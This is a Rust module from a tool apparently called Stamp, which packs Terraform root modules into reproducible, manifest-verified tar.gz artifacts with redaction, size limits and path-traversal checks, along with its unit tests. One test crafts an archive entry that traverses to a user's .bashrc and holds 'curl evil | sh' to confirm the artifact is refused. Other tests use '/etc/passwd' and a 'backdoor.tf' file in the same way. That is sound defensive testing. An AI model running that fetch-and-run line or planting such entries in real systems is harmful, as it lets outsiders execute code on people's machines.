//! Build artifacts: one account's rendered root module, redacted config and optional plan in a
//! reproducible `<account>-<version>.tar.gz`, with a manifest that is verified on every read.
//!
//! The archive holds:
//!
//! ```text
//! config.json        the account's effective config, sensitive values redacted, keys sorted
//! manifest.json      see [`Manifest`]
//! plan/plan.json     optional: `terraform show -json` of the plan, every value Terraform
//!                    marks sensitive and every input variable redacted
//! root/...           every file of the rendered root module
//! ```
//!
//! The binary plan is never packed: it holds the values of variables (secrets given as
//! `TF_VAR_...` among them) in clear, and Stamp applies from the rendered root, not from it.
//! Artifacts of earlier versions that hold one (`plan/plan.tfplan`) are still read.
//!
//! The manifest's digest is a checksum, not a signature: it catches corruption and edits made
//! without rewriting the manifest. To trust an artifact, compare [`Manifest::digest`] with one
//! recorded when it was built.

mod manifest;
mod tarball;

use std::collections::BTreeMap;
use std::io;
use std::path::{Path, PathBuf};

use serde_json::Value;
use thiserror::Error;

pub use manifest::{FORMAT, Manifest, files_digest, sha256_hex};
pub use tarball::UnsafeReason;

use crate::render::{Tree, TreeFile};
use crate::version::BuildVersion;
use tarball::PackFile;

/// The folder of the rendered root module inside an artifact.
const ROOT: &str = "root/";
const CONFIG: &str = "config.json";
const MANIFEST: &str = "manifest.json";
const PLAN_BINARY: &str = "plan/plan.tfplan";
const PLAN_JSON: &str = "plan/plan.json";

/// The most an artifact may unpack to. Real ones are a few MiB at most; the limit only has to
/// stop a small file that inflates to fill the memory or the disk.
pub const MAX_UNPACKED_BYTES: u64 = 512 * 1024 * 1024;

/// Everything an artifact is built from.
#[derive(Debug, Clone, Copy)]
pub struct ArtifactInput<'a> {
    pub account: &'a str,
    pub archetype: &'a str,
    pub blueprint: &'a str,
    pub environment: &'a str,
    pub version: &'a BuildVersion,
    pub terraform_version: Option<&'a str>,
    pub tree: &'a Tree,
    /// The slot the tree was rendered for.
    pub slot: crate::config::Slot,
    /// The effective config, with sensitive values already redacted.
    pub config: &'a Value,
    /// `terraform show -json` of the account's plan, already redacted
    /// ([`crate::terraform::plan_json::redact`]).
    pub plan: Option<&'a [u8]>,
}

/// Why an artifact could not be read. Each names the artifact file and, where there is one, the
/// offending entry.
#[derive(Debug, Error)]
pub enum ArtifactError {
    #[error("cannot read artifact `{path}`")]
    Io {
        path: PathBuf,
        #[source]
        source: io::Error,
    },
    #[error("`{path}` is not a Stamp artifact: {reason}")]
    NotAnArtifact { path: PathBuf, reason: String },
    #[error("artifact `{path}` unpacks to more than {} MiB; refusing it", limit / (1024 * 1024))]
    TooLarge { path: PathBuf, limit: u64 },
    #[error("artifact `{path}` has an unsafe entry `{entry}`: {reason}")]
    UnsafePath { path: PathBuf, entry: String, reason: UnsafeReason },
    #[error("`{file}` in artifact `{path}` is not valid")]
    InvalidJson {
        path: PathBuf,
        file: String,
        #[source]
        source: serde_json::Error,
    },
    #[error("artifact `{path}` has format `{found}`, but this Stamp reads only `{FORMAT}`")]
    Format { path: PathBuf, found: String },
    #[error("`{file}` in artifact `{path}` was modified: its sha256 is `{found}`, the manifest says `{expected}`")]
    Tampered { path: PathBuf, file: String, expected: String, found: String },
    #[error("`{file}` is missing from artifact `{path}`, but its manifest lists it")]
    MissingFile { path: PathBuf, file: String },
    #[error("artifact `{path}` has `{file}`, which its manifest does not list")]
    ExtraFile { path: PathBuf, file: String },
    #[error("the manifest of artifact `{path}` was modified: its digest is `{expected}`, its files give `{found}`")]
    DigestMismatch { path: PathBuf, expected: String, found: String },
}

/// `<account>-<version>.tar.gz`, where `version` is the plain version (no commit).
pub fn file_name(account: &str, version: &str) -> String {
    format!("{account}-{version}.tar.gz")
}

/// The `.tar.gz` bytes of an artifact. The same input always gives the same bytes: the order
/// in which the tree or the config were assembled does not matter.
///
/// # Panics
/// If a path of the tree is absolute or has a `..` component, which a rendered tree never has.
pub fn build(input: &ArtifactInput<'_>) -> Vec<u8> {
    build_as(input, env!("CARGO_PKG_VERSION"))
}

/// [`build`], claiming to be built by `stamp_version`: tests pin bytes that must not change
/// with each release.
fn build_as(input: &ArtifactInput<'_>, stamp_version: &str) -> Vec<u8> {
    let config = json_bytes(&crate::render::sorted_keys(input.config));
    let mut files: Vec<PackFile<'_>> = input
        .tree
        .files
        .iter()
        .map(|(path, file)| PackFile {
            path: format!("{ROOT}{path}"),
            content: &file.content,
            executable: file.executable,
        })
        .collect();
    files.push(PackFile { path: CONFIG.to_string(), content: &config, executable: false });
    if let Some(plan) = input.plan {
        files.push(PackFile { path: PLAN_JSON.to_string(), content: plan, executable: false });
    }
    let hashes = files.iter().map(|file| (file.path.clone(), sha256_hex(file.content))).collect();
    let manifest = Manifest::new(input, hashes, stamp_version).to_json();
    files.push(PackFile { path: MANIFEST.to_string(), content: &manifest, executable: false });
    tarball::pack(files)
}

/// Writes `bytes` to `path` atomically and durably, so a reader never sees half an artifact.
pub fn write(path: &Path, bytes: &[u8]) -> io::Result<()> {
    crate::fsio::write_atomic(path, bytes)
}

/// Reads the artifact at `path` and verifies it: every entry must be a plain file (or folder)
/// at a safe path of the artifact layout, it must unpack to at most [`MAX_UNPACKED_BYTES`], and
/// every file must match the manifest. Nothing is written anywhere.
pub fn open(path: &Path) -> Result<Artifact, ArtifactError> {
    open_with_limit(path, MAX_UNPACKED_BYTES)
}

fn open_with_limit(path: &Path, limit: u64) -> Result<Artifact, ArtifactError> {
    let io_error = |source| ArtifactError::Io { path: path.to_path_buf(), source };
    // A compressed file larger than the limit cannot unpack to less: refuse it before reading.
    if fs_err::metadata(path).map_err(io_error)?.len() > limit {
        return Err(ArtifactError::TooLarge { path: path.to_path_buf(), limit });
    }
    let bytes = crate::fsio::read_plain(path, limit).map_err(io_error)?;
    let mut files = tarball::unpack(path, &bytes, limit)?;
    let not_an_artifact =
        |reason: &str| ArtifactError::NotAnArtifact { path: path.to_path_buf(), reason: reason.into() };

    let manifest = files.remove(MANIFEST).ok_or_else(|| not_an_artifact("it has no `manifest.json`"))?;
    let manifest = Manifest::from_json(path, &manifest.content)?;
    manifest.verify(path, &files)?;

    let config = files.get(CONFIG).ok_or_else(|| not_an_artifact("it has no `config.json`"))?;
    let config = serde_json::from_slice(&config.content).map_err(|source| ArtifactError::InvalidJson {
        path: path.to_path_buf(),
        file: CONFIG.to_string(),
        source,
    })?;
    if files.contains_key(PLAN_BINARY) && !files.contains_key(PLAN_JSON) {
        return Err(not_an_artifact("it has `plan/plan.tfplan` without `plan/plan.json`"));
    }
    Ok(Artifact { manifest, files, config })
}

/// A verified artifact, read into memory. Only [`open`] makes one.
#[derive(Debug, Clone)]
pub struct Artifact {
    pub manifest: Manifest,
    /// Every file but `manifest.json`, by its path in the archive.
    files: BTreeMap<String, TreeFile>,
    config: Value,
}

impl Artifact {
    /// Every file but `manifest.json`, by its path in the archive (`root/main.tf`, ...).
    pub fn files(&self) -> &BTreeMap<String, TreeFile> {
        &self.files
    }

    /// The rendered root module, as it was rendered.
    pub fn tree(&self) -> Tree {
        let files = self
            .files
            .iter()
            .filter_map(|(path, file)| Some((path.strip_prefix(ROOT)?.to_string(), file.clone())))
            .collect();
        Tree { files }
    }

    /// The account's effective config, sensitive values redacted.
    pub fn config(&self) -> Value {
        self.config.clone()
    }

    /// The plan's JSON, as redacted when it was built.
    pub fn plan(&self) -> Option<&[u8]> {
        Some(&self.files.get(PLAN_JSON)?.content)
    }

    /// Writes the rendered root module into `dir`, which must be empty or absent: a folder that
    /// holds anything else (a `.terraform`, an older render) would silently change the module.
    pub fn extract_root(&self, dir: &Path) -> io::Result<()> {
        if dir.exists() && fs_err::read_dir(dir)?.next().is_some() {
            return Err(io::Error::new(
                io::ErrorKind::DirectoryNotEmpty,
                format!("`{}` is not empty; refusing to extract an artifact into it", dir.display()),
            ));
        }
        fs_err::create_dir_all(dir)?;
        // The paths were checked by `open`: relative, no `..`, and the folder is new, so no
        // symbolic link can redirect a write.
        for (path, file) in &self.tree().files {
            let target = dir.join(path);
            if let Some(folder) = target.parent() {
                fs_err::create_dir_all(folder)?;
            }
            fs_err::write(&target, &file.content)?;
            set_mode(&target, file.executable)?;
        }
        Ok(())
    }
}

/// Pretty JSON with a final newline.
fn json_bytes(value: &Value) -> Vec<u8> {
    let mut text = serde_json::to_vec_pretty(value).expect("values serialise");
    text.push(b'\n');
    text
}

#[cfg(unix)]
fn set_mode(path: &Path, executable: bool) -> io::Result<()> {
    use std::os::unix::fs::PermissionsExt;
    fs_err::set_permissions(path, std::fs::Permissions::from_mode(if executable { 0o755 } else { 0o644 }))
}

#[cfg(not(unix))]
fn set_mode(_: &Path, _: bool) -> io::Result<()> {
    Ok(())
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use serde_json::json;
    use tar::EntryType;

    use super::*;

    fn version() -> BuildVersion {
        BuildVersion { version: "1.4.0".into(), commit: "0123456789ab".into(), dirty: false }
    }

    fn tree(files: &[(&str, &str, bool)]) -> Tree {
        Tree {
            files: files
                .iter()
                .map(|(path, content, executable)| {
                    ((*path).to_string(), TreeFile { content: content.as_bytes().into(), executable: *executable })
                })
                .collect(),
        }
    }

    fn sample_tree() -> Tree {
        tree(&[
            ("main.tf", "resource \"null_resource\" \"a\" {}\n", false),
            ("modules/net/main.tf", "variable \"cidr\" {}\n", false),
            ("scripts/smoke.sh", "#!/bin/sh\nexit 0\n", true),
        ])
    }

    fn input<'a>(tree: &'a Tree, config: &'a Value, version: &'a BuildVersion) -> ArtifactInput<'a> {
        ArtifactInput {
            account: "prod-eu",
            archetype: "web",
            blueprint: "web-service",
            environment: "production",
            version,
            terraform_version: Some("1.9.8"),
            tree,
            slot: crate::config::Slot::Blue,
            config,
            plan: None,
        }
    }

    /// Writes `bytes` as `prod-eu-1.4.0.tar.gz` in a new temporary folder and opens it.
    fn open_bytes(bytes: &[u8]) -> (tempfile::TempDir, Result<Artifact, ArtifactError>) {
        let tmp = tempfile::tempdir().unwrap();
        let path = tmp.path().join(file_name("prod-eu", "1.4.0"));
        write(&path, bytes).unwrap();
        let opened = open(&path);
        (tmp, opened)
    }

    /// The artifact `bytes`, unpacked, changed by `edit` (manifest and all) and packed again.
    fn repack(bytes: &[u8], edit: impl FnOnce(&mut BTreeMap<String, TreeFile>)) -> Vec<u8> {
        let mut files = tarball::unpack(Path::new("x"), bytes, MAX_UNPACKED_BYTES).unwrap();
        edit(&mut files);
        tarball::pack(
            files
                .iter()
                .map(|(path, file)| PackFile {
                    path: path.clone(),
                    content: &file.content,
                    executable: file.executable,
                })
                .collect(),
        )
    }

    fn sample() -> Vec<u8> {
        let (tree, config, version) = (sample_tree(), json!({"region": "eu-west-1"}), version());
        build(&input(&tree, &config, &version))
    }

    #[test]
    fn file_name_is_account_and_version() {
        assert_eq!(file_name("prod-eu", "1.4.0"), "prod-eu-1.4.0.tar.gz");
    }

    #[test]
    fn round_trips_tree_config_plan_and_manifest() {
        let (tree, version) = (sample_tree(), version());
        let config = json!({"region": "eu-west-1", "db_password": "(sensitive)"});
        let plan: &[u8] = b"{\"format_version\":\"1.2\"}";
        let bytes = build(&ArtifactInput { plan: Some(plan), ..input(&tree, &config, &version) });
        let (_tmp, artifact) = open_bytes(&bytes);
        let artifact = artifact.unwrap();

        assert_eq!(artifact.tree(), tree);
        assert_eq!(artifact.config(), config);
        assert_eq!(artifact.plan(), Some(plan));
        let manifest = &artifact.manifest;
        assert_eq!(manifest.format, FORMAT);
        assert_eq!(
            (manifest.account.as_str(), manifest.archetype.as_str(), manifest.blueprint.as_str()),
            ("prod-eu", "web", "web-service")
        );
        assert_eq!(manifest.environment_version, "1.4.0+0123456789ab");
        assert_eq!(manifest.stamp_version, env!("CARGO_PKG_VERSION"));
        assert_eq!(manifest.terraform_version.as_deref(), Some("1.9.8"));
        assert_eq!(
            manifest.files.keys().collect::<Vec<_>>(),
            ["config.json", "plan/plan.json", "root/main.tf", "root/modules/net/main.tf", "root/scripts/smoke.sh"]
        );
        assert_eq!(manifest.files["root/main.tf"], sha256_hex(tree.files["main.tf"].content.as_ref()));
        assert_eq!(manifest.digest, files_digest(&manifest.files));
    }

    #[test]
    fn without_a_plan_there_are_no_plan_files() {
        let (_tmp, artifact) = open_bytes(&sample());
        let artifact = artifact.unwrap();
        assert_eq!(artifact.plan(), None);
        assert!(artifact.files().keys().all(|path| !path.starts_with("plan/")));
    }

    #[test]
    fn building_twice_gives_the_same_bytes() {
        assert_eq!(sample(), sample());
    }

    #[test]
    fn assembly_order_does_not_change_the_bytes() {
        let version = version();
        let forward = sample_tree();
        let mut backward = Tree::default();
        for (path, file) in forward.files.iter().rev() {
            backward.files.insert(path.clone(), file.clone());
        }
        let config_a = json!({"region": "eu-west-1", "tags": {"team": "a", "cost": "b"}});
        let config_b = json!({"tags": {"cost": "b", "team": "a"}, "region": "eu-west-1"});
        assert_eq!(build(&input(&forward, &config_a, &version)), build(&input(&backward, &config_b, &version)));
    }

    #[test]
    fn the_format_is_pinned() {
        // A tiny artifact whose bytes must not change by accident: a changed hash here means
        // existing artifacts would no longer be reproduced bit for bit. The tar stream is
        // pinned rather than the gzip output, which could change with the compression library
        // without anything in Stamp changing; the gzip header is pinned separately.
        // The long path takes the GNU long-name extension, which is pinned with the rest.
        let long = format!("modules/{}/main.tf", "x".repeat(100));
        let tree = tree(&[("main.tf", "terraform {}\n", false), ("run.sh", "#!/bin/sh\n", true), (&long, "", false)]);
        let (config, version) = (json!({"b": 1, "a": [true, null]}), version());
        let bytes =
            build_as(&ArtifactInput { terraform_version: None, ..input(&tree, &config, &version) }, "0.0.0-test");

        // Magic, deflate, no flags (so no name), time 0, best compression, unknown OS.
        assert_eq!(bytes[..10], [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255]);
        let mut tar = Vec::new();
        flate2::read::GzDecoder::new(bytes.as_slice()).read_to_end(&mut tar).unwrap();
        assert_eq!(sha256_hex(&tar), "06d19ab9133b99fb3fa53365f2fb48c73fa504f9b68f3d4ff489607801d51064");

        let mut archive = tar::Archive::new(tar.as_slice());
        let mut listing = Vec::new();
        for entry in archive.entries().unwrap() {
            let entry = entry.unwrap();
            let header = entry.header();
            listing.push(format!(
                "{} mode={:o} owner={}:{} names={:?}:{:?} mtime={} size={}",
                String::from_utf8_lossy(&entry.path_bytes()),
                header.mode().unwrap(),
                header.uid().unwrap(),
                header.gid().unwrap(),
                header.username().unwrap().unwrap_or_default(),
                header.groupname().unwrap().unwrap_or_default(),
                header.mtime().unwrap(),
                entry.size(),
            ));
        }
        let artifact = open_bytes(&bytes).1.unwrap();
        let text = |path: &str| String::from_utf8(artifact.files()[path].content.to_vec()).unwrap();
        let manifest = String::from_utf8(artifact.manifest.to_json()).unwrap();
        insta::assert_snapshot!("tiny", format!("{}\n\n{}\n{manifest}", listing.join("\n"), text(CONFIG)));
    }

    #[test]
    fn tampered_file_is_named() {
        let bytes = repack(&sample(), |files| {
            let file = files.get_mut("root/main.tf").unwrap();
            let mut content = file.content.to_vec();
            content[0] ^= 1;
            file.content = content.into();
        });
        let (_tmp, err) = open_bytes(&bytes);
        match err.unwrap_err() {
            ArtifactError::Tampered { file, expected, found, .. } => {
                assert_eq!(file, "root/main.tf");
                assert_eq!(expected, sha256_hex(sample_tree().files["main.tf"].content.as_ref()));
                assert_ne!(found, expected);
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn missing_file_is_named() {
        let bytes = repack(&sample(), |files| {
            files.remove("root/modules/net/main.tf");
        });
        let err = open_bytes(&bytes).1.unwrap_err();
        assert!(
            matches!(&err, ArtifactError::MissingFile { file, .. } if file == "root/modules/net/main.tf"),
            "{err:?}"
        );
    }

    #[test]
    fn extra_file_is_named() {
        let bytes = repack(&sample(), |files| {
            files.insert("root/backdoor.tf".into(), TreeFile { content: b"x".as_slice().into(), executable: false });
        });
        let err = open_bytes(&bytes).1.unwrap_err();
        assert!(matches!(&err, ArtifactError::ExtraFile { file, .. } if file == "root/backdoor.tf"), "{err:?}");
    }

    #[test]
    fn a_manifest_edited_without_its_digest_is_refused() {
        // The file and its listed hash are changed together, but not the digest.
        let bytes = repack(&sample(), |files| {
            files.get_mut("root/main.tf").unwrap().content = b"changed".as_slice().into();
            let manifest = files.get_mut(MANIFEST).unwrap();
            let mut value: Value = serde_json::from_slice(&manifest.content).unwrap();
            value["files"]["root/main.tf"] = Value::from(sha256_hex(b"changed"));
            manifest.content = json_bytes(&value).into();
        });
        let err = open_bytes(&bytes).1.unwrap_err();
        assert!(matches!(err, ArtifactError::DigestMismatch { .. }), "{err:?}");
    }

    /// Removes `file` from the archive and from its manifest, with a digest to match: an
    /// artifact that is consistent but incomplete.
    fn drop_listed(files: &mut BTreeMap<String, TreeFile>, file: &str) {
        files.remove(file);
        let manifest = files.get_mut(MANIFEST).unwrap();
        let mut parsed = Manifest::from_json(Path::new("x"), &manifest.content).unwrap();
        parsed.files.remove(file);
        parsed.digest = files_digest(&parsed.files);
        manifest.content = parsed.to_json().into();
    }

    #[test]
    fn refuses_an_artifact_without_manifest_or_config() {
        let no_manifest = repack(&sample(), |files| {
            files.remove(MANIFEST);
        });
        let err = open_bytes(&no_manifest).1.unwrap_err();
        assert!(err.to_string().ends_with("is not a Stamp artifact: it has no `manifest.json`"), "{err}");

        let no_config = repack(&sample(), |files| drop_listed(files, CONFIG));
        let err = open_bytes(&no_config).1.unwrap_err();
        assert!(err.to_string().ends_with("is not a Stamp artifact: it has no `config.json`"), "{err}");
    }

    #[test]
    fn refuses_a_binary_plan_without_its_json() {
        let (tree, config, version) = (sample_tree(), json!({}), version());
        let plan: Option<&[u8]> = Some(b"{}");
        let bytes = build(&ArtifactInput { plan, ..input(&tree, &config, &version) });
        let old_layout = repack(&bytes, |files| {
            let json = files[PLAN_JSON].clone();
            drop_listed(files, PLAN_JSON);
            let manifest = files.get_mut(MANIFEST).unwrap();
            let mut parsed = Manifest::from_json(Path::new("x"), &manifest.content).unwrap();
            parsed.files.insert(PLAN_BINARY.to_string(), sha256_hex(&json.content));
            parsed.digest = files_digest(&parsed.files);
            manifest.content = parsed.to_json().into();
            files.insert(PLAN_BINARY.to_string(), json);
        });
        let err = open_bytes(&old_layout).1.unwrap_err();
        assert!(err.to_string().contains("`plan/plan.tfplan` without `plan/plan.json`"), "{err}");
    }

    #[test]
    fn open_refuses_an_unsafe_archive_before_reading_its_manifest() {
        let bytes = tarball::tests::raw_archive(&[
            (b"root/../../../home/user/.bashrc", EntryType::Regular, 0o644, b"curl evil | sh"),
            (b"manifest.json", EntryType::Regular, 0o644, b"{}"),
        ]);
        let (tmp, err) = open_bytes(&bytes);
        let message = err.unwrap_err().to_string();
        let path = tmp.path().join("prod-eu-1.4.0.tar.gz");
        assert_eq!(
            message,
            format!(
                "artifact `{}` has an unsafe entry `root/../../../home/user/.bashrc`: a `..` component",
                path.display()
            )
        );
    }

    #[test]
    fn open_refuses_a_file_larger_than_the_limit() {
        let tmp = tempfile::tempdir().unwrap();
        let path = tmp.path().join("big.tar.gz");
        write(&path, &sample()).unwrap();
        let err = open_with_limit(&path, 64).unwrap_err();
        assert!(matches!(err, ArtifactError::TooLarge { limit: 64, .. }), "{err:?}");
    }

    #[test]
    fn error_messages() {
        let path = PathBuf::from("out/prod-eu-1.4.0.tar.gz");
        let messages = [
            ArtifactError::Tampered {
                path: path.clone(),
                file: "root/main.tf".into(),
                expected: "aa".into(),
                found: "bb".into(),
            },
            ArtifactError::MissingFile { path: path.clone(), file: "root/main.tf".into() },
            ArtifactError::ExtraFile { path: path.clone(), file: "root/x.tf".into() },
            ArtifactError::DigestMismatch { path: path.clone(), expected: "aa".into(), found: "bb".into() },
            ArtifactError::TooLarge { path: path.clone(), limit: MAX_UNPACKED_BYTES },
            ArtifactError::UnsafePath { path, entry: "/etc/passwd".into(), reason: UnsafeReason::Absolute },
        ]
        .map(|e| e.to_string());
        assert_eq!(
            messages,
            [
                "`root/main.tf` in artifact `out/prod-eu-1.4.0.tar.gz` was modified: its sha256 is `bb`, the manifest says `aa`",
                "`root/main.tf` is missing from artifact `out/prod-eu-1.4.0.tar.gz`, but its manifest lists it",
                "artifact `out/prod-eu-1.4.0.tar.gz` has `root/x.tf`, which its manifest does not list",
                "the manifest of artifact `out/prod-eu-1.4.0.tar.gz` was modified: its digest is `aa`, its files give `bb`",
                "artifact `out/prod-eu-1.4.0.tar.gz` unpacks to more than 512 MiB; refusing it",
                "artifact `out/prod-eu-1.4.0.tar.gz` has an unsafe entry `/etc/passwd`: an absolute path",
            ]
        );
    }

    #[test]
    fn write_replaces_atomically_and_leaves_no_temporary_file() {
        let tmp = tempfile::tempdir().unwrap();
        let path = tmp.path().join("out/a.tar.gz");
        write(&path, b"old").unwrap();
        write(&path, b"new").unwrap();
        assert_eq!(fs_err::read(&path).unwrap(), b"new");
        let names: Vec<_> = fs_err::read_dir(tmp.path().join("out")).unwrap().map(|e| e.unwrap().file_name()).collect();
        assert_eq!(names, ["a.tar.gz"]);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = fs_err::metadata(&path).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode & 0o600, 0o600, "readable and writable by its owner: {mode:o}");
        }
    }

    #[test]
    fn extract_root_writes_the_tree_with_modes() {
        let (_tmp, artifact) = open_bytes(&sample());
        let artifact = artifact.unwrap();
        let out = tempfile::tempdir().unwrap();
        let dir = out.path().join("prod-eu");
        artifact.extract_root(&dir).unwrap();
        assert_eq!(fs_err::read_to_string(dir.join("modules/net/main.tf")).unwrap(), "variable \"cidr\" {}\n");
        assert!(!dir.join("config.json").exists());
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = |p: &str| fs_err::metadata(dir.join(p)).unwrap().permissions().mode() & 0o777;
            assert_eq!((mode("scripts/smoke.sh"), mode("main.tf")), (0o755, 0o644));
        }
    }

    #[test]
    fn extract_root_refuses_a_folder_that_is_not_empty() {
        let (_tmp, artifact) = open_bytes(&sample());
        let out = tempfile::tempdir().unwrap();
        fs_err::write(out.path().join("keep.tf"), "x").unwrap();
        let err = artifact.unwrap().extract_root(out.path()).unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::DirectoryNotEmpty);
        assert_eq!(fs_err::read_dir(out.path()).unwrap().count(), 1);
    }
}
